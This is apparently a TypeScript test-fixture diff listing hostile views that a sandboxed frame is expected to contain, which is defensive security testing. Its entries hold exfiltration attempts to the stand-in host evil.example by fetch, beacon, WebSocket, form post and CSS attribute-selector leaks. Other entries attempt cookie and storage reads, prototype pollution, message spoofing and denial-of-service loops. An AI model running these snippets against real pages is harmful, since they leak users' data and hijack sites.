@@ -1,0 +1,188 @@
+/** What a hostile view may end with: its own text, or the page’s notice that it stopped. */
+type Outcome = { says: string | RegExp } | 'stopped';
+
+/** A hostile view: what it tries, and how it must end. */
+export interface Attack {
+  name: string;
+  html?: string;
+  css?: string;
+  functions?: string;
+  /** Statements that set `outcome`, or return what it is; may await. */
+  tries: string;
+  calls?: string[];
+  ends: Outcome;
+}
+
+/** An address of another site; nothing may ever be asked of it. */
+export const EVIL = 'https://evil.example';
+
+/** An attack that must throw where it is tried. */
+const throws = (name: string, tries: string, error: string | RegExp = /Error/): Attack => ({
+  name,
+  tries: `try { ${tries}; return 'DONE' } catch (error) { return error.name + ': ' + error.message }`,
+  ends: { says: error },
+});
+
+/** An attack whose promise must be refused. */
+const refused = (name: string, promise: string, error: string | RegExp = /Error|refused/): Attack => ({
+  name,
+  tries: `try { await ${promise}; return 'DONE' } catch (error) { return (error.Code ?? error.name) + ': refused' }`,
+  ends: { says: error },
+});
+
+/** An attack that goes on in silence; the journey looks at what came of it. */
+const harmless = (name: string, tries: string, more: Partial<Attack> = {}): Attack => ({
+  name,
+  tries: `${tries}; return 'held'`,
+  ends: { says: 'held' },
+  ...more,
+});
+
+const change = '/api/User/UpdateOwnFields';
+const read = '/api/user/getcurrent';
+
+/** Views that leave their own document: the page must end them. */
+export const leaving: readonly Attack[] = [
+  { name: 'goes-to-another-site', tries: `location.href = '${EVIL}/'`, ends: 'stopped' },
+  { name: 'goes-to-our-home', tries: "location.href = '/home'", ends: 'stopped' },
+  { name: 'loads-itself-again', tries: 'location.reload()', ends: 'stopped' },
+  { name: 'opens-the-frame-again', tries: "location.replace('/razor/frame')", ends: 'stopped' },
+];
+
+/** Views that reach for the page, other sites, storage and devices. */
+export const reaching: readonly Attack[] = [
+  throws('moves-the-page', `top.location.href = '${EVIL}/'`),
+  throws('moves-its-parent', `parent.location.replace('${EVIL}/')`),
+  throws('reads-the-page', 'parent.document.body.textContent'),
+  throws('writes-the-page', 'parent.hacked = 1'),
+  harmless('opens-a-window', `if (window.open('${EVIL}/')) return 'OPENED'`),
+  harmless('presses-a-link', `document.getElementById('link').click()`, {
+    html: `<a id="link" href="${EVIL}/" target="_blank">a</a>`,
+  }),
+  harmless(
+    'presses-a-link-unheard',
+    "addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.getElementById('link').click()",
+    { html: `<a id="link" href="${EVIL}/" target="_top">a</a>` },
+  ),
+  harmless('runs-a-script-address', "document.getElementById('link').click()", {
+    html: '<a id="link" href="javascript:parent.postMessage(\'hacked\',\'*\')">a</a>',
+  }),
+  harmless('sends-a-form', "document.getElementById('form').submit()", {
+    html: `<form id="form" method="post" action="${EVIL}/"><input name="a" value="b"></form>`,
+  }),
+  throws('reads-local-storage', 'localStorage.length', /SecurityError/),
+  throws('reads-session-storage', 'sessionStorage.length', /SecurityError/),
+  throws('reads-cookies', 'document.cookie.length', /SecurityError/),
+  throws('writes-cookies', "document.cookie = 'hacked=1'", /SecurityError/),
+  throws('opens-a-database', "indexedDB.open('hacked')", /Error/),
+  refused('opens-a-cache', "caches.open('hacked')"),
+  refused('registers-a-worker', "navigator.serviceWorker.register('/sw.js')"),
+  refused('fetches-our-calls', "fetch('/Account/Identity', { method: 'POST', body: '{}' })"),
+  refused('fetches-another-site', `fetch('${EVIL}/')`),
+  throws('asks-by-xhr', `const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/', false); x.send()`),
+  harmless('opens-a-socket', `try { new WebSocket('wss://evil.example/') } catch {}`),
+  harmless('sends-a-beacon', `navigator.sendBeacon('${EVIL}/', 'a')`),
+  harmless('loads-a-picture', `new Image().src = '${EVIL}/picture.png'`, { html: `<img src="${EVIL}/html.png">` }),
+  harmless('leaks-by-style', '', {
+    html: '<input value="secret">',
+    css: `@import url(${EVIL}/import.css); @font-face { font-family: x; src: url(${EVIL}/font.woff2) }
+      main { font-family: x; background: url(${EVIL}/background.png) } input[value^="s"] { background: url(${EVIL}/s.png) }`,
+  }),
+  harmless('loads-objects', '', {
+    html: `<object data="${EVIL}/"></object><embed src="${EVIL}/"><video src="${EVIL}/a.mp4"></video><link rel="stylesheet" href="${EVIL}/a.css">`,
+  }),
+  throws('opens-a-peer-connection', 'new RTCPeerConnection()', /ReferenceError/),
+  throws('opens-a-transport', `new WebTransport('${EVIL}/')`, /ReferenceError/),
+  {
+    ...throws(
+      'takes-a-peer-connection-from-a-frame',
+      "new (document.querySelector('iframe').contentWindow.RTCPeerConnection)()",
+    ),
+    html: '<iframe></iframe>',
+  },
+  harmless('runs-in-a-frame-inside', '', {
+    html: "<iframe srcdoc=\"<script>parent.parent.postMessage('hacked','*')</script>\"></iframe>",
+  }),
+  throws('starts-a-worker', "new Worker(URL.createObjectURL(new Blob(['']))).postMessage(1); throw new Error('held')"),
+  throws('makes-code-from-text', "eval('1')", /EvalError/),
+  throws('makes-a-function-from-text', "new Function('return 1')()", /EvalError/),
+  harmless('runs-inline-handlers', '', {
+    html: '<img src="x" onerror="parent.postMessage(\'hacked\',\'*\')"><script>parent.postMessage("hacked","*")</script>',
+  }),
+  harmless('asks-in-windows', "alert(1); if (confirm('a') || prompt('b')) return 'ASKED'; print()"),
+  harmless('steals-the-nonce', "if ([...document.querySelectorAll('[nonce]')].some((e) => e.nonce)) return 'FOUND'"),
+  throws('goes-back-in-history', 'history.back()', /TypeError/),
+  refused('reads-the-clipboard', 'navigator.clipboard.readText()'),
+  refused('fills-the-screen', 'document.documentElement.requestFullscreen()'),
+  refused('asks-where-one-is', 'new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))', /refused/),
+];
+
+/** Views that spend time and memory, or say what they should not. */
+export const greedy: readonly Attack[] = [
+  throws('loops-for-ever', 'while (true);', /longer than 2 s/),
+  refused('awaits-for-ever', '(async () => { while (true) await null })()', /Error/),
+  refused('promises-for-ever', '(async function f() { await null; return f() })()', /Error/),
+  throws('catches-the-end-of-a-loop', 'while (true) { try { for (;;); } catch {} }', /longer than 2 s/),
+  throws('calls-itself', 'const f = () => f() + 1; f()', /RangeError|longer than 2 s/),
+  harmless('takes-memory', 'const taken = []; for (let i = 0; i < 20; i++) taken.push(new Array(1e6).fill(i))'),
+  harmless(
+    'changes-prototypes',
+    'Object.prototype.hacked = 1; Array.prototype.map = () => 1; MessagePort.prototype.postMessage = () => 1; Promise.prototype.then = Promise.prototype.then',
+  ),
+  harmless(
+    'greets-again',
+    "parent.postMessage('ithaki-view', '*'); if (await new Promise((done) => { addEventListener('message', (e) => done(e.ports.length)); setTimeout(() => done(0), 300) })) return 'PORT'",
+  ),
+  harmless(
+    'speaks-for-the-frame',
+    `const port = await new Promise((done) => { const own = MessagePort.prototype.postMessage;
+      MessagePort.prototype.postMessage = function (...all) { done(this); return own.apply(this, all) }; on('x', 1); setTimeout(done, 200) });
+      for (const message of [null, 1, [], { request: 1, kind: 'constructor', content: {} }, { request: {}, kind: 'call', content: 1 },
+        { height: 1e12 }, { navigate: 'javascript:alert(1)' }, { key: 1 }, { error: { message: {} } }, { __proto__: { ready: 1 } }]) port?.postMessage(message)`,
+  ),
+  harmless('grows', "document.body.style.height = '900000px'", { css: 'main { height: 900000px }' }),
+  harmless('takes-the-focus', "document.querySelector('input').focus(); window.focus()", {
+    html: '<input aria-label="a">',
+  }),
+  harmless('covers-the-page', '', {
+    css: 'main { position: fixed; inset: -9999px; z-index: 2147483647; background: red }',
+    html: '<p>cover</p>',
+  }),
+  harmless('floods-with-toasts', "for (let i = 0; i < 200; i++) toast('flood ' + i)"),
+  {
+    name: 'floods-with-calls',
+    tries: `const all = await Promise.allSettled(Array.from({ length: 80 }, () => call('${read}')));
+      return all.some(({ reason }) => reason?.Code === 'TooManyCalls') ? 'limited' : 'ALL'`,
+    calls: [read],
+    ends: { says: 'limited' },
+  },
+  harmless('floods-with-questions', "for (let i = 0; i < 20; i++) confirm('question')"),
+  refused('makes-a-call-it-does-not-list', `call('${read}')`, 'NotDeclared: refused'),
+  {
+    ...refused('changes-without-a-gesture', `call('${change}', { Fields: {} })`, 'NoGesture: refused'),
+    calls: [change],
+  },
+  refused('navigates-without-a-gesture', "(navigate('/about'), Promise.reject({ Code: 'sent' }))", 'sent: refused'),
+  refused(
+    'answers-without-being-a-directive',
+    "(typeof setValue === 'function' ? 1 : Promise.reject({ Code: 'none' }))",
+    'none: refused',
+  ),
+];
+
+/** Views that no check ends: the frame hangs, the page does not. */
+export const hanging: readonly Attack[] = [
+  { name: 'hangs-in-a-pattern', tries: "return /^(a+)+$/.test('a'.repeat(60) + '!')", ends: 'stopped' },
+];
+
+/** The controller of a hostile view: tries, and shows what came of it. */
+export const controllerOf = ({ tries }: Attack): string =>
+  `view(({ call, toast, confirm, navigate, on, setValue }) => ({
+    outcome: '',
+    async init() {
+      try { this.outcome = String(await (async () => { ${tries} })()) } catch (error) { this.outcome = 'threw ' + error.message }
+    },
+  }))`;
+
+/** The HTML of a hostile view. */
+export const htmlOf = ({ html = '' }: Attack): string => `<output x-text="outcome"></output>${html}`;
